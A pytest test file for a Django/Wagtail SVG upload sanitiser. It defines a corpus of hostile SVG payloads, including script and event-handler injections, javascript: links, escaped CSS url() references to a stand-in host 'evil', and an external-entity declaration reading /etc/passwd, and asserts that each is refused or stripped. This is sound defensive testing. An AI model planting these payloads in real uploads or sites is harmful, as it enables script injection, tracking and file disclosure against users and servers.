"""SVG uploads by allow-list (issue 12, item 5): a corpus of hostile SVGs, each refused or
neutralised; the demo's OpenMoji pictograms pass and are stored as they were drawn."""

from pathlib import Path

import pytest
from defusedxml import ElementTree
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st

from pictures.svg import sanitise_svg, svg_problem

OPENMOJI = sorted((Path(__file__).parent.parent / "pictures/demo/openmoji").glob("*.svg"))
NS = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'


def svg(body, attributes=""):
    return f"<svg {NS} {XLINK} {attributes}>{body}</svg>".encode()


# Each must be refused. The first five are the ones issue 12 found passing the old deny-list.
REFUSED = {
    "animate href to javascript with a tab entity": svg(
        '<a><animate attributeName="href" to="java&#9;script:alert(1)"/><text>x</text></a>'
    ),
    "CSS escape in url()": svg('<rect width="9" height="9" style="fill: u\\72l(http://evil/)"/>'),
    "xml-stylesheet processing instruction": b'<?xml-stylesheet type="text/css" '
    b'href="https://evil/a.css"?>' + svg("<rect/>"),
    "XHTML meta refresh": svg(
        f'<meta {XHTML} http-equiv="refresh" content="0;url=https://evil/"/>'
    ),
    "XHTML form": svg(f'<form {XHTML} action="https://evil/"><input name="p"/></form>'),
    # scripts in every disguise
    "script": svg("<script>alert(1)</script>"),
    "script in CDATA": svg("<script><![CDATA[ alert(1) ]]></script>"),
    "script with an SVG prefix": svg(
        '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'
    ),
    "XHTML script": svg(f"<script {XHTML}>alert(1)</script>"),
    "script in no namespace": svg('<script xmlns="">alert(1)</script>'),
    "SVG Tiny handler": svg('<handler type="application/ecmascript">alert(1)</handler>'),
    "onload on the root": svg("<rect/>", 'onload="alert(1)"'),
    "event attribute in odd case": svg('<rect width="9" height="9" OnClIcK="alert(1)"/>'),
    "namespaced event attribute": svg(
        '<rect xmlns:e="http://example.org/e" e:onmouseover="alert(1)"/>'
    ),
    # animation of links and events
    "set onclick": svg('<rect><set attributeName="onclick" to="alert(1)"/></rect>'),
    "animate xlink:href": svg(
        '<use xlink:href="#a"><animate attributeName="xlink:href" values="javascript:alert(1)"/>'
        "</use>"
    ),
    "animateTransform": svg('<rect><animateTransform attributeName="transform"/></rect>'),
    # references outside the file
    "a with javascript xlink:href": svg('<a xlink:href="javascript:alert(1)"><rect/></a>'),
    "use of another file": svg('<use href="https://evil/sprite.svg#icon"/>'),
    "use with whitespace before javascript": svg('<use href="  javascript:alert(1)"/>'),
    "use with a zero-width space": svg('<use href="java\u200bscript:alert(1)"/>'),
    "external image": svg('<image xlink:href="https://evil/track.png"/>'),
    "data: image": svg('<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>'),
    "foreignObject with iframe": svg(
        f'<foreignObject><iframe {XHTML} src="https://evil/"/></foreignObject>'
    ),
    "feImage": svg('<filter id="f"><feImage href="https://evil/x.png"/></filter>'),
    "style @import": svg("<style>@import url(https://evil/a.css);</style>"),
    "style @import in CDATA": svg("<style><![CDATA[ @import 'https://evil/a.css'; ]]></style>"),
    "style @import escaped": svg("<style>@\\69mport 'https://evil/a.css';</style>"),
    "style url() split by a comment": svg("<style>rect { fill: u/**/rl(https://evil/x) }</style>"),
    "style url() with escaped parenthesis": svg("<style>rect { fill: url\\28 //evil/x) }</style>"),
    "style image-set": svg("<style>rect { background: image-set('https://evil/x' 1x) }</style>"),
    "fill url() outside": svg('<rect fill="url(https://evil/#g)"/>'),
    "filter url() with quotes and spaces": svg("<rect filter=\"url( 'https://evil/f.svg#f' )\"/>"),
    "mask url() with an entity": svg('<rect mask="url(&#x68;ttps://evil/m.svg#m)"/>'),
    "vbscript": svg('<rect style="fill: vbscript:msgbox(1)"/>'),
    "behavior": svg('<rect style="behavior: url(x.htc)"/>'),
    # declarations and structure
    "entity expansion": b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    + svg("<text>&b;&b;</text>"),
    "external entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + svg("<text>&x;</text>"),
    "doctype only": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + svg("<rect/>"),
    "root is not svg": f"<html {XHTML}><body><svg {NS}/></body></html>".encode(),
    "svg without the SVG namespace": b'<svg><rect onclick="alert(1)"/></svg>',
    "not XML": b"<svg><rect></svg>",
    "link element": svg('<a href="#x"><rect/></a>'),
}

# Each must pass, stored without the part named.
NEUTRALISED = {
    "Inkscape metadata": (
        svg(
            '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            '<rdf:Description rdf:about="https://evil/"/></rdf:RDF></metadata><rect/>',
            'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3"',
        ),
        [b"evil", b"inkscape", b"metadata"],
    ),
    "comment with a script": (svg("<!-- <script>alert(1)</script> --><rect/>"), [b"script"]),
    "unknown attribute": (svg('<rect data-x="1" foo="bar"/>'), [b"foo", b"data-x"]),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_svg_is_refused_with_a_reason(name):
    with pytest.raises(ValidationError) as error:
        sanitise_svg(REFUSED[name])
    assert error.value.messages[0]


@pytest.mark.parametrize("name", NEUTRALISED)
def test_harmless_extras_are_left_out_of_the_stored_file(name):
    content, markers = NEUTRALISED[name]
    stored = sanitise_svg(content)
    for marker in markers:
        assert marker not in stored
    assert b"<rect" in stored


def test_the_corpus_is_large_enough():
    assert len(REFUSED) + len(NEUTRALISED) >= 25


def signature(content):
    return [
        (element.tag, dict(element.attrib), (element.text or "").strip())
        for element in ElementTree.fromstring(content).iter()
    ]


def test_the_demo_pictograms_pass_and_look_the_same():
    assert len(OPENMOJI) == 49
    for path in OPENMOJI:
        content = path.read_bytes()
        assert signature(sanitise_svg(content)) == signature(content), path.name


def test_local_references_stay():
    content = svg(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
        '<symbol id="s"><circle r="2"/></symbol></defs>'
        '<rect fill="url(#g)" style="stroke: url( \'#g\' )"/><use href="#s"/>'
        '<use xlink:href="#s"/><style>rect { fill: url(#g) }</style>'
    )
    assert signature(sanitise_svg(content)) == signature(content)


# Any way of spelling url( with escapes, case and comments is still url(.
_spelling = st.lists(
    st.tuples(
        st.sampled_from(["literal", "upper", "hex", "hex-space", "backslash"]), st.booleans()
    ),
    min_size=4,
    max_size=4,
)


def _spell(word, choices):
    out = []
    for character, (how, comment) in zip(word, choices, strict=True):
        if how == "upper":
            character = character.upper()
        elif how == "hex":
            character = f"\\{ord(character):x}"
        elif how == "hex-space":
            character = f"\\{ord(character):06x} "
        elif how == "backslash" and character not in "0123456789abcdefABCDEF":
            character = f"\\{character}"
        out.append(character + ("/* x */" if comment else ""))
    return "".join(out)


@settings(max_examples=200, deadline=None)
@given(_spelling, st.sampled_from(["style-attribute", "style-element", "fill"]))
def test_url_to_outside_is_refused_however_it_is_escaped(choices, where):
    url = _spell("url(", choices) + "https://evil/x)"
    if where == "style-attribute":
        content = svg(f'<rect style="fill: {url}"/>')
    elif where == "style-element":
        content = svg(f"<style>rect {{ fill: {url} }}</style>")
    else:
        content = svg(f'<rect fill="{url}"/>')
    assert svg_problem(content)


def test_refusals_are_in_the_editors_language():
    with translation.override("sv"):
        message = svg_problem(REFUSED["XHTML form"])
    assert "form" in message and "SVG-filen" in message


@pytest.mark.django_db
def test_an_editor_uploads_an_svg_and_the_rebuilt_file_is_stored(client, django_user_model):
    from django.contrib.auth.models import Group
    from wagtail.images import get_image_model
    from wagtail.models import Collection

    editor = django_user_model.objects.create_user("svg-editor", password="x" * 16)
    editor.groups.add(Group.objects.get(name="Editors"))
    client.force_login(editor)
    website = Collection.objects.get(name="Website", depth=2)
    content = NEUTRALISED["Inkscape metadata"][0].replace(b"<rect/>", b'<rect width="9"/>')
    response = client.post(
        "/admin/images/add/",
        {
            "title": "Ritning",
            "collection": website.pk,
            "file": SimpleUploadedFile("drawing.svg", content, "image/svg+xml"),
        },
    )
    assert response.status_code == 302
    image = get_image_model().objects.get(title="Ritning")
    with image.file.open("rb") as handle:
        stored = handle.read()
    assert b"inkscape" not in stored and b"evil" not in stored and b"<rect" in stored
    assert image.file_size == len(stored)
    refused = client.post(
        "/admin/images/add/",
        {
            "title": "Farlig",
            "collection": website.pk,
            "file": SimpleUploadedFile("bad.svg", REFUSED["XHTML form"], "image/svg+xml"),
        },
    )
    assert refused.status_code == 200
    assert "<form>" in refused.content.decode() or "&lt;form&gt;" in refused.content.decode()
    assert not get_image_model().objects.filter(title="Farlig").exists()


@pytest.mark.django_db
def test_an_svg_stored_by_other_ways_is_rebuilt_too():
    """Wagtail's multiple upload saves a file it kept aside (UploadedFile) without the upload
    form; code and the demo loader save images directly."""
    from django.core.files.base import ContentFile
    from wagtail.images import get_image_model

    content = NEUTRALISED["Inkscape metadata"][0].replace(b"<rect/>", b'<rect width="9"/>')
    image = get_image_model()(title="Direkt")
    image.file.save("direct.svg", ContentFile(content), save=False)  # committed first
    image.width, image.height = 9, 9  # Pillow cannot measure an SVG; Wagtail and the loader do
    image.save()
    image.refresh_from_db()
    with image.file.open("rb") as handle:
        stored = handle.read()
    assert b"inkscape" not in stored and b"evil" not in stored and b"<rect" in stored
    assert image.file_size == len(stored)
